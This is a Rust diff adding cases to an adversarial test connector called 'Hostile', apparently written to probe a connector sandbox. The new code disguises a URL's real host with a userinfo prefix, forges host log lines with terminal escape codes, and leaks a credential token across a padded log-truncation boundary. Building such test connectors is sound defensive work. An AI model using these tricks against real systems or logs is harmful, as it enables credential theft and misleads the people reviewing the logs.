@@ -231,6 +231,12 @@ impl Connector for Hostile {
                     Request::get(target).send()?;
                 }
             }
+            // Reads as api.example.com, goes to the target.
+            "http-userinfo" => {
+                let target = setup_value(&request.setup, "target").unwrap_or("");
+                let disguised = target.replacen("://", "://api.example.com@", 1);
+                Ok(fetch(&disguised, true)?)
+            }
             "steal-credential" => {
                 let target = setup_value(&request.setup, "target").unwrap_or("");
                 Ok(fetch(target, true)?)
@@ -258,6 +264,20 @@ impl Connector for Hostile {
                     "one more code, please",
                 );
             },
+            // Text that would forge a host log line or rewrite a terminal,
+            // and the token placed across the log line's cut.
+            "forge" => {
+                let token = credentials::get("token")?;
+                sourcebox_sdk::log::info(
+                    "done\n2026-12-07T00:00:00Z  INFO sourcebox: collected 10 records\u{1b}[2K",
+                );
+                let pad = "x".repeat(1991);
+                sourcebox_sdk::log::info(&format!("{pad}{}", token.expose_secret()));
+                println!("{pad}{}", token.expose_secret());
+                Err(ConnectorError::Fatal(
+                    "bad\nnews\u{1b}[31m red\u{202e}txet".into(),
+                ))
+            }
             other => Err(ConnectorError::Fatal(format!("unknown attack '{other}'"))),
         }
     }
